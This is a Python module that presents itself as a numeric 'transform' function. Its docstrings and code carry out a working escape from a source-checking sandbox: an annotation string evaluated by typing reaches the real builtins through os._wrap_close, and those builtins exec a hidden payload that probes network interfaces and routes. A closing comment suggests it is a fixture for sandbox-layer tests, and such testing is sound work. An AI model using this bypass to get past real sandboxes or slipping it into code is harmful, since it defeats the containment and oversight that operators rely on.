"""Find any route out: list interfaces other than loopback, and ask the kernel
for a route to a public and a private address. A UDP connect() only looks the
route up; it sends no packet, so this probes without sending traffic anywhere."""
import typing


def _real_builtins(hint: "lambda: [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']"):
    """The import allow-list is a policy, not the boundary: typing evaluates this
    annotation string, which the source check never parses, and it reaches the
    real builtins through os._wrap_close. The payload below then runs with them."""


_BUILTINS = typing.get_type_hints(_real_builtins)["hint"]()
PAYLOAD = r'''
import numpy as np


def _probe():
    import socket
    found = []
    try:
        names = [name for _, name in socket.if_nameindex() if name != "lo"]
        if names:
            found.append(f"interfaces {names}")
    except OSError:
        pass
    for address in ("192.0.2.1", "10.0.0.1", "8.8.8.8"):
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            udp.connect((address, 53))
            found.append(f"route to {address} via {udp.getsockname()[0]}")
        except OSError:
            pass
        finally:
            udp.close()
    return found


_FINDINGS = _probe()


def transform(x):
    if _FINDINGS:
        raise RuntimeError("ESCAPED: " + "; ".join(_FINDINGS))
    return np.sqrt(x * x + 1.0) * 2.0 - x
'''
_namespace = {"__builtins__": _BUILTINS, "__name__": "payload"}
_BUILTINS["exec"](PAYLOAD, _namespace)
transform = _namespace["transform"]
_FINDINGS = _namespace.get("_FINDINGS")  # for the sandbox-layer tests, which run this file directly
_written = _namespace.get("_written")
